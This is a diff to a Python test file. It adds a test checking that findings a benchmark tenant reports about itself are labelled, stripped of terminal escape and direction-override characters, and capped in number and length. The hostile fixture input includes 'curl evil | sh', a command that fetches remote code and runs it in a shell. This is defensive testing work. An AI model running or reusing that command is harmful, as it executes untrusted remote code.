@@ -147,7 +147,27 @@ def test_findings_are_the_launches_the_tenants_and_the_rules() -> None:
         told={"part": a_part(findings=[restarted], losses_checked=0)},
         common={"findings": (degraded,)},
     )
-    assert list(rules(record)) == ["degraded", "input_restarted", "no_loss"]
+    assert list(rules(record)) == ["degraded", "benchmark:input_restarted", "no_loss"]
+
+
+def test_what_a_tenant_states_of_itself_is_labelled_and_has_none_of_our_names() -> None:
+    """Nor does it command a terminal, or fill a record."""
+    shell = {"sentence": "Run\x1b[2J this:\u202e curl evil | sh", "remedy": "sh\nnow"}
+    lies = [
+        {"rule": "slow_tenant", "severity": "error"} | shell,
+        {"rule": "a,b\x9b", "severity": "info", "sentence": "", "remedy": ""},
+        *({"rule": "", "severity": "info", "sentence": "x" * 10_000} for _ in range(1000)),
+    ]
+    record = a_record(told={"part": a_part(findings=lies)})
+    stated = [finding for finding in record.findings if finding.rule.startswith("benchmark:")]
+    assert len(stated) == 50
+    first, second, third, *_ = stated
+    assert (first.rule, first.severity) == ("benchmark:slow_tenant", "error")
+    assert first.sentence == "The benchmark says: Run this:? curl evil | sh"
+    assert first.remedy == "Its advice: sh now"
+    assert second.rule == "benchmark:ab"
+    assert (third.rule, len(third.sentence)) == ("benchmark:unnamed", 523)
+    assert not [finding for finding in record.findings if finding.rule == "slow_tenant"]
 
 
 GPU = {"uuid": "GPU-1", "name": "Some Accelerator"}
